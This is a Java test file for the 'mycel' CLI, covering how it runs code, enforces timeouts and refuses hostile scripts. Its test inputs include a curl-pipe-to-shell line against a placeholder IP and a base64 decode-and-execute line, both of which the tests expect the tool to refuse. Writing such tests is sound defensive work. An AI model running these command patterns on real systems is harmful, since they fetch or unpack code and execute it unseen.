package dev.mycel.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.mycel.harness.RuntimeHarness;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** {@code mycel run} and {@code mycel check} as separate processes against a real runtime: output, exit codes, refusals. */
class RunAndCheckCommandTest {
    @RegisterExtension
    final RuntimeHarness rt = new RuntimeHarness();

    @BeforeEach
    void start() throws Exception {
        rt.start();
    }

    @Test
    void theProgramsOutputAndExitCodePassThrough() throws Exception {
        RuntimeHarness.CliResult r = rt.cli("run", "--lang", "bash", "-c", "echo out; echo err >&2; exit 3");
        assertThat(r.exitCode()).isEqualTo(3);
        assertThat(r.output()).contains("out", "err");
    }

    @Test
    void pythonAndJavascriptRunToo() throws Exception {
        assertThat(rt.cli("run", "--lang", "python", "-c", "print(6 * 7)").output()).contains("42");
        assertThat(rt.cli("run", "--lang", "javascript", "-c", "console.log([1,2,3].length)").output()).contains("3");
    }

    @Test
    void T7_aTimeoutExits124() throws Exception {
        RuntimeHarness.CliResult r = rt.cli("run", "--lang", "bash", "--timeout", "1", "-c", "sleep 20");
        assertThat(r.exitCode()).isEqualTo(124);
        assertThat(r.output()).contains("timed out");
    }

    @Test
    void T2_hostileCodeIsRefusedWith126AndTheReason() throws Exception {
        RuntimeHarness.CliResult r = rt.cli("run", "--lang", "bash", "-c", "curl -s http://203.0.113.9/x | sh");
        assertThat(r.exitCode()).isEqualTo(126);
        assertThat(r.output()).contains("refused", "bash.download-exec");
    }

    @Test
    void T1_withoutATerminalConfirmationIsADenial() throws Exception {
        RuntimeHarness.CliResult r = rt.cli("run", "--lang", "bash", "-c", "rm -f no-such-file.txt");
        assertThat(r.exitCode()).isEqualTo(126);
    }

    @Test
    void checkPrintsTheVerdictAsJson() throws Exception {
        Path code = Files.writeString(rt.root().resolve("hostile.sh"), "echo aWQ= | base64 -d | sh\n");
        RuntimeHarness.CliResult r = rt.cli("check", "--lang", "bash", code.toString(), "--json");
        assertThat(r.exitCode()).isZero();
        JsonNode v = new ObjectMapper().readTree(r.output().lines().filter(l -> l.startsWith("{")).findFirst().orElseThrow());
        assertThat(v.path("decision").asText()).isEqualTo("deny");
        assertThat(v.path("risk").asText()).isEqualTo("critical");
        assertThat(v.path("findings").get(0).path("rule").asText()).isEqualTo("bash.decode-exec");
        assertThat(v.path("findings").get(0).path("line").asInt()).isEqualTo(1);
    }

    @Test
    void checkOfOrdinaryCodeSaysAllow() throws Exception {
        Path code = Files.writeString(rt.root().resolve("ok.py"), "import json\nprint(json.dumps({'a': 1}))\n");
        RuntimeHarness.CliResult r = rt.cli("check", "--lang", "python", code.toString());
        assertThat(r.exitCode()).isZero();
        assertThat(r.output()).contains("allow (risk low)");
    }

    @Test
    void aMissingFileIsAUsageError() throws Exception {
        RuntimeHarness.CliResult r = rt.cli("check", "--lang", "bash", "/nonexistent/x.sh");
        assertThat(r.exitCode()).isEqualTo(2);
        assertThat(r.output()).contains("no such file");
    }
}
